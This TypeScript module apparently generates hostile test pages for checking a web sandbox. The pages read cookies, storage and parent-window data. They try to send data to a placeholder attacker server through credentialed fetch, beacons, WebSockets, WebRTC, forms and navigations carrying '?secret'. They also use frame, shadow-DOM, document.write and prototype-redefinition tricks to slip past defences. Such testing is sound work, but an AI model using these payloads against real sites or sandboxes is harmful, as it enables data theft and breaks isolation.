/**
 * A game that means harm: it tries each way out that a page has, tells its host page what it could read, and says when it
 * has tried everything.
 */
export interface Targets {
  /** the attacker's server */
  readonly outside: string;
  /** another one of the attacker's, which only hints to connect name */
  readonly hint: string;
  /** the application */
  readonly api: string;
  /** ports of the attacker for WebRTC, by who calls */
  readonly calls: Readonly<Record<string, { readonly stun: number; readonly turn: number }>>;
}

/** What a peer connection sends to the attacker; an expression, a promise. */
export function callOut({ calls }: Pick<Targets, 'calls'>, name: string): string {
  const { stun, turn } = calls[name]!;
  const servers = [
    { urls: `stun:127.0.0.1:${stun}` },
    { urls: `turn:127.0.0.1:${turn}?transport=tcp`, username: 'x', credential: 'x' },
  ];
  return (
    `(() => { const p = new RTCPeerConnection({ iceServers: ${JSON.stringify(servers)} }); ` +
    `p.createDataChannel('x'); return p.createOffer().then((o) => p.setLocalDescription(o)); })()`
  );
}

export const page = (body: string) => `<!doctype html><meta charset="utf-8"><title>hostile</title><body>${body}`;

/** Everything that leaves the document where it is. */
function attempts({ outside, hint, api }: Targets): string {
  const secure = outside.replace('http:', 'https:');
  return `
<link rel="preconnect" href="${hint}"><link rel="dns-prefetch" href="${hint}">
<link rel="prefetch" href="${outside}/prefetch"><link rel="preload" as="image" href="${outside}/preload">
<link rel="modulepreload" href="${outside}/modulepreload"><link rel="icon" href="${outside}/icon">
<link rel="stylesheet" href="${outside}/stylesheet"><link rel="manifest" href="${outside}/manifest">
<style>@import '${outside}/import'; @font-face { font-family: f; src: url(${outside}/font) } body { font-family: f; background: url(${outside}/background) }</style>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${outside}/speculated"]}],"prerender":[{"source":"list","urls":["${outside}/prerendered"]}]}</script>
<form id="form" action="${outside}/form" method="post"></form>
<a id="link" href="${outside}/link" ping="${outside}/ping" target="_blank">x</a><a id="saved" href="${outside}/saved" download>x</a>
<script>
const told = {};
const read = (name, get) => { try { told[name] = 'read ' + get(); } catch (error) { told[name] = error.name; } };
// nothing is waited for that a browser may leave undecided; what is on its way when the word is given still arrives
const attempt = (work) => { try { return Promise.resolve(work()).catch(() => undefined); } catch {} };
const add = (tag, properties) => document.body.append(make(tag, properties));
const make = (tag, properties) => Object.assign(document.createElement(tag), properties);
read('cookie', () => document.cookie);
read('localStorage', () => localStorage.length);
read('indexedDB', () => indexedDB.open('x'));
read('parent document', () => parent.document.title);
read('parent location', () => parent.location.href);
read('parent cookie', () => parent.document.cookie);
read('origin', () => origin);
const tryAll = async () => {
  const fetches = [];
  for (const base of ['${outside}', '${api}']) {
    fetches.push(attempt(() => fetch(base + '/fetch', { credentials: 'include', mode: 'no-cors' })));
    fetches.push(attempt(() => fetch(base + '/api/other', { credentials: 'include' }).then((r) => r.text()).then((text) => (told['api by fetch'] = text))));
    attempt(() => { const x = new XMLHttpRequest(); x.open('POST', base + '/xhr'); x.withCredentials = true; x.send('x'); });
    attempt(() => navigator.sendBeacon(base + '/beacon', 'x'));
    attempt(() => new WebSocket(base.replace('http', 'ws') + '/socket'));
    attempt(() => { const s = new EventSource(base + '/events'); s.onerror = () => s.close(); });
    attempt(() => add('img', { src: base + '/image' }));
    attempt(() => add('script', { src: base + '/script' }));
    attempt(() => add('link', { rel: 'stylesheet', href: base + '/style' }));
    attempt(() => add('video', { src: base + '/video' }));
    attempt(() => add('iframe', { src: base + '/frame' }));
    attempt(() => add('object', { data: base + '/object' }));
    attempt(() => add('embed', { src: base + '/embed' }));
    attempt(() => import(base + '/module'));
    attempt(() => new Worker(base + '/worker'));
    attempt(() => new Worker(URL.createObjectURL(new Blob(["fetch('" + base + "/blobworker')"]))));
    attempt(() => navigator.serviceWorker.register(base + '/serviceworker'));
  }
  attempt(() => new WebTransport('${secure}/transport').ready);
  await Promise.all(fetches);
};
</script>`;
}

/** All channels, those to other windows among them, tried as soon as the game is there. */
export function hostileGame(targets: Targets): string {
  const { outside, api } = targets;
  return page(`${attempts(targets)}
<script>
(async () => {
  attempt(() => ${callOut(targets, 'itself')});
  await tryAll();
  attempt(() => form.submit());
  attempt(() => link.click());
  attempt(() => saved.click());
  for (const base of ['${outside}', '${api}']) {
    attempt(() => open(base + '/opened'));
    attempt(() => { top.location = base + '/top'; });
    attempt(() => { parent.location.replace(base + '/parent'); });
  }
  parent.postMessage({ told }, '*');
})();
</script>`);
}

/** Who calls out by WebRTC in the games below, a port each. */
export const CALLERS = [
  'itself',
  'srcdoc',
  'srcdoc later',
  'blank',
  'javascript',
  'blob',
  'data',
  'object',
  'shadow',
  'cloned shadow',
  'declared shadow',
  'written shadow',
  'unsafe HTML',
  'redefined',
  'own javascript',
  'own blob',
  'own data',
] as const;

/** A document that calls out, by WebRTC and by a picture. */
function caller(targets: Targets, name: (typeof CALLERS)[number]): string {
  const picture = `new Image().src = '${targets.outside}/from-${name.replaceAll(' ', '-')}'`;
  return `<!doctype html><body><script>${picture}; ${callOut(targets, name)}</script>`;
}

const text = (value: string) => JSON.stringify(value).replaceAll('<', '\\x3c');
const attribute = (value: string) => value.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

/**
 * Stays where it is until it is told to leave: `depart[name]()`. Until then it tries all channels, and calls out from
 * frames of its own making, whose scripts run where nothing reaches that was done to its own window. `tried` is true then.
 */
export function stayingGame(targets: Targets): string {
  return page(`${attempts(targets)}${frames(targets)}${leavings(targets)}
<script>tryAll().then(() => { globalThis.tried = true; });</script>`);
}

/** Only leaves. */
export function leavingGame(targets: Targets): string {
  return page(`${leavings(targets)}<script>globalThis.tried = true;</script>`);
}

function frames(targets: Targets): string {
  const doc = (name: (typeof CALLERS)[number]) => text(caller(targets, name));
  const shadow = (name: (typeof CALLERS)[number]) =>
    `<template shadowrootmode="closed"><iframe srcdoc="${attribute(caller(targets, name))}"></iframe></template>`;
  return `
<iframe srcdoc="${attribute(caller(targets, 'srcdoc'))}"></iframe>
<div>${shadow('declared shadow')}</div>
<script>
// ends within the attribute's name, and what follows in the document goes on with it
document.write('<div><template shadowroot');
</script>mode="closed">
<iframe srcdoc="${attribute(caller(targets, 'written shadow'))}"></iframe></template></div>
<div id="unsafe"></div><div id="shadow"></div>
<script>
attempt(() => ${callOut(targets, 'itself')});
attempt(() => add('iframe', { srcdoc: ${doc('srcdoc later')} }));
attempt(() => { add('iframe', {}); const d = document.body.lastChild.contentDocument; d.write(${doc('blank')}); d.close(); });
attempt(() => add('iframe', { src: 'javascript:' + encodeURIComponent(${text(callOut(targets, 'javascript'))}) }));
attempt(() => add('iframe', { src: URL.createObjectURL(new Blob([${doc('blob')}], { type: 'text/html' })) }));
attempt(() => add('iframe', { src: 'data:text/html,' + encodeURIComponent(${doc('data')}) }));
attempt(() => add('object', { type: 'text/html', data: 'data:text/html,' + encodeURIComponent(${doc('object')}) }));
attempt(() => shadow.attachShadow({ mode: 'closed' }).append(make('iframe', { srcdoc: ${doc('shadow')} })));
attempt(() => {
  const host = make('div', {});
  host.attachShadow({ mode: 'open', clonable: true }).append(make('iframe', { srcdoc: ${doc('cloned shadow')} }));
  document.body.append(host.cloneNode(true));
});
attempt(() => unsafe.setHTMLUnsafe(${text(`<div>${shadow('unsafe HTML')}</div>`)}));
// whatever a defence may call by its name, until the next task
attempt(() => {
  const named = [[Document.prototype, 'querySelector'], [DocumentFragment.prototype, 'querySelector'], [Element.prototype, 'remove'],
    [Reflect, 'apply'], [Function.prototype, 'call'], [Function.prototype, 'apply'], [globalThis, 'MutationObserver']];
  const were = named.map(([owner, name]) => owner[name]);
  const redefined = [make('iframe', { srcdoc: ${doc('redefined')} }), make('iframe', { srcdoc: ${doc('redefined')} })];
  const host = make('div', {});
  document.body.append(host);
  for (const [owner, name] of named) owner[name] = () => null;
  Object.prototype.attributeFilter = 5;
  try { host.attachShadow({ mode: 'open' }); } catch {}
  delete Object.prototype.attributeFilter;
  document.body.append(redefined[0]);
  host.shadowRoot.append(redefined[1]);
  setTimeout(() => named.forEach(([owner, name], i) => { owner[name] = were[i]; }));
});
</script>`;
}

function leavings(targets: Targets): string {
  const doc = (name: (typeof CALLERS)[number]) => text(caller(targets, name));
  return `<script>
const leave = (document) => URL.createObjectURL(new Blob([document], { type: 'text/html' }));
globalThis.fresh = ${doc('own javascript')};
globalThis.depart = {
${Object.entries(departures(targets))
  .map(([name, script]) => `  ${JSON.stringify(name)}: () => { ${script} },`)
  .join('\n')}
  'own javascript': () => { location = 'javascript:fresh'; },
  'own blob': () => { location = leave(${doc('own blob')}); },
  'own data': () => { location = 'data:text/html,' + encodeURIComponent(${doc('own data')}); },
};
</script>`;
}

/** The document itself, or a page around it, goes away and takes something with it: a script each. */
export const departures = ({ outside }: Pick<Targets, 'outside'>) =>
  ({
    location: `location = '${outside}/gone-location?secret';`,
    refresh: `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${outside}/gone-refresh?secret'; document.head.append(m);`,
    link: `const a = document.createElement('a'); a.href = '${outside}/gone-link?secret'; a.ping = '${outside}/ping'; document.body.append(a); a.click();`,
    'top link': `const a = document.createElement('a'); a.target = '_top'; a.href = '${outside}/gone-top-link?secret'; document.body.append(a); a.click();`,
    top: `top.location = '${outside}/gone-top?secret';`,
    parent: `parent.location.replace('${outside}/gone-parent?secret');`,
    open: `open('${outside}/gone-open?secret');`,
    form: `const f = document.createElement('form'); f.method = 'post'; f.action = '${outside}/gone-form?secret'; document.body.append(f); f.submit();`,
  }) satisfies Record<string, string>;

/** Names of `depart`: those that leave the game where it is when they are held, and those that cost it its document. */
export const ASIDE = ['own javascript', 'top link', 'top', 'parent', 'open', 'form'] as const;
export const AWAY = ['location', 'refresh', 'link', 'own blob', 'own data'] as const;

/** Calls by WebRTC, two of them from frames of the game's own making: their scripts run where no prelude of the page reaches. */
export function calls(targets: Targets): Readonly<Record<string, string>> {
  const call = callOut(targets, 'itself');
  const told = `.finally(() => parent.postMessage({ told: {} }, '*'))`;
  const toldAbove = `.finally(() => parent.parent.postMessage({ told: {} }, '*'))`;
  const framed = (set: string) =>
    page(`<script>const f = document.createElement('iframe'); ${set}; document.body.append(f);</script>`);
  return {
    itself: page(`<script>${call}${told}</script>`),
    srcdoc: framed(`f.srcdoc = ${text(`<script>${call}${toldAbove}</script>`)}`),
    'a javascript: URL': framed(`f.src = 'javascript:' + encodeURIComponent(${text(call + toldAbove)})`),
  };
}
